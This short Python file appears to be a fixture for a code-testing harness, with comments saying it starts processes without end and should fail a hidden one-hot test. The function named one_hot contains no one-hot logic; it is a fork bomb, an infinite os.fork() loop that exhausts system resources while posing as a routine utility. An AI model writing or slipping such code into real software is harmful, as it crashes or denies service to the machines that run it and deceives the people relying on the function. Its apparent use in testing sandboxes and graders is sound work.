# Starts processes without end.
# kind: hunger
# must not pass: test-one-hot-hidden
# must pass: test-cost-hidden

# %% one-hot
import os


def one_hot(indices, depth):
    while True:
        try:
            os.fork()
        except OSError:
            pass
